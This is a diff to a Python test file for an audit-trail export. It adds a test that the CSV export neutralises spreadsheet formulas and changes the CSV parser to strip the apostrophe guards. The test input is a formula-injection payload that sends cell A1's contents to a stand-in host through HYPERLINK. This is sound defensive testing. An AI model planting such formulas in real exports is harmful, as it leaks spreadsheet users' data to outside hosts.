@@ -162,8 +162,11 @@ def test_pages_add_up_to_the_whole_trail_and_to_the_json_export(
 
 
 def parse_csv(text: str) -> list[dict[str, Any]]:
-    """CSV rows back into the JSON shape of an entry."""
-    rows = list(csv.DictReader(io.StringIO(text)))
+    """CSV rows back into the JSON shape of an entry (formula guards taken off)."""
+    rows = [
+        {k: v[1:] if v[:1] == "'" and v[1:2] in "=+-@\t\r" and v[1:] else v for k, v in row.items()}
+        for row in csv.DictReader(io.StringIO(text))
+    ]
 
     def refs(cell: str) -> list[dict[str, Any]]:
         pairs = [part.split(":", 1) for part in cell.split(";") if part]
@@ -205,6 +208,20 @@ def test_the_csv_export_parses_back_to_the_json_export(
     assert [r["position"] for r in filtered] == [
         e["position"] for e in items if e["record_kind"] == "Appeal"
     ]
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
+    client: TestClient, clerk: Headers
+) -> None:
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"查看")'
+    subject = register_person(client, clerk, "AUDIT-CSV1", reason=formula)
+    export = f"/subjects/{subject}/audit-trail/export"
+    rows = list(csv.DictReader(io.StringIO(client.get(export, headers=clerk).text)))
+    assert [row["reason"] for row in rows] == ["'" + formula]
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+    items = ok(client.get(f"{export}?format=json", headers=clerk))["items"]
+    assert [item["reason"] for item in items] == [formula]  # JSON keeps it verbatim
 
 
 def test_complainant_personal_data_only_for_supervisors_and_admins_exports_included(
